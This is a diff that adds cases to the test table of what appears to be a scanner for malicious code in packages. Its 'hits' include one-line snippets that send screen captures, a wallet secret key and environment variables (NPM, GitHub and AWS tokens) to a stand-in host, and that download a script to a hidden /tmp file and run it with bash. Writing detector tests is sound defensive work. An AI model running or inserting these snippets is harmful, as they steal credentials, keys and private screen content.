@@ -48,6 +48,48 @@ testTable({
       ['shortens addresses', 'const short = (t) => t.replace(/0x[a-f0-9]{40}/g, cut); fetch(url)'],
     ],
   },
+  'takes-input': {
+    hits: [
+      [
+        'the screen',
+        "const [s] = await desktopCapturer.getSources(o); fetch('https://a.example/s', { body: s })",
+        'what the screen shows',
+      ],
+    ],
+    misses: [['a picker', 'show(await desktopCapturer.getSources(o))']],
+  },
+  'sends-keys': {
+    hits: [
+      [
+        "a wallet's",
+        "fetch('https://a.example/w', { body: JSON.stringify({ s: Buffer.from(pair.secretKey).toString('hex') }) })",
+        'secretKey',
+      ],
+    ],
+    misses: [['kept', "save(Buffer.from(pair.secretKey)); fetch('https://a.example')"]],
+  },
+  'environment-dump': {
+    hits: [
+      [
+        'name by name',
+        'Object.entries(process.env).forEach(([k, v]) => https.get(url, { headers: { k: v } }))',
+      ],
+      ['of several services', 'const { NPM_TOKEN, GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY } = process.env;'],
+    ],
+    misses: [
+      ['its own settings', 'Object.entries(process.env).forEach(([k, v]) => config.set(k, v))'],
+      ['of one', 'const { NPM_TOKEN, NODE_AUTH_TOKEN } = process.env;'],
+    ],
+  },
+  'pipe-to-shell': {
+    hits: [
+      [
+        'fetched into a file, and run',
+        "exec('curl -fsSL https://a.example/e.sh -o /tmp/.e && bash /tmp/.e')",
+      ],
+    ],
+    misses: [['fetched into a file', "exec('curl -fsSL https://a.example/e.tgz -o e.tgz && tar xf e.tgz')"]],
+  },
   'token-pattern': {
     hits: [["a chat's", 'text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}|mfa\\.[\\w-]{84}/g)']],
     misses: [['a length', 'text.match(/^[\\w-]{24}$/)']],
